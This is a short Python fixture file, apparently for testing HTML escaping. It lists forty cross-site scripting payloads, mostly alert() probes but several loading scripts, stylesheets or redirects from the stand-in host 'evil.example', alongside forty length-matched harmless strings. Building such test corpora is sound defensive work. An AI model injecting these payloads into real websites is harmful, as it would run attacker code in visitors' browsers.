"""Forty texts that are scripts where a page forgets to escape, and forty harmless ones."""

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/2.js></SCRIPT>",
    "</script><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</style><script>alert(6)</script>",
    "--><script>alert(7)</script><!--",
    "]]><script>alert(8)</script>",
    '"><script>alert(9)</script>',
    "'><script>alert(10)</script>",
    "<img src=x onerror=alert(11)>",
    '<img src="x" onerror="alert(12)">',
    "<img/src=x/onerror=alert(13)>",
    "<svg onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<svg><animate onbegin=alert(16) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(17)>",
    "<body onload=alert(18)>",
    "<iframe src=javascript:alert(19)>",
    '<iframe srcdoc="<script>alert(20)</script>">',
    "<object data=javascript:alert(21)>",
    "<embed src=javascript:alert(22)>",
    "<details open ontoggle=alert(23)>",
    "<input autofocus onfocus=alert(24)>",
    "<video><source onerror=alert(25)>",
    "<marquee onstart=alert(26)>",
    '<a href="javascript:alert(27)">27</a>',
    "<form action=javascript:alert(28)><button>28</button>",
    "<base href=//evil.example/29/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/30>",
    '<link rel=stylesheet href="//evil.example/31.css">',
    "<style>@import'//evil.example/32.css';</style>",
    '" onmouseover="alert(33)" x="',
    "' onmouseover='alert(34)' x='",
    '" autofocus onfocus=alert(35) x="',
    '"hx-get="//evil.example/36" hx-trigger="load" x="',
    "<div hx-on:load=alert(37) hx-trigger=load>",
    '\\"><img src=x onerror=alert(38)>',
    "<noscript><p title='</noscript><img src=x onerror=alert(39)>'>",
    "${alert(40)}{{40*40}}<template shadowrootmode=open>",
]
# Each is as long as its hostile one: where a page clips a text depends on its length.
TAME = [
    f"harmless text {number:02}".ljust(len(hostile), "x")
    for number, hostile in enumerate(HOSTILE, 1)
]
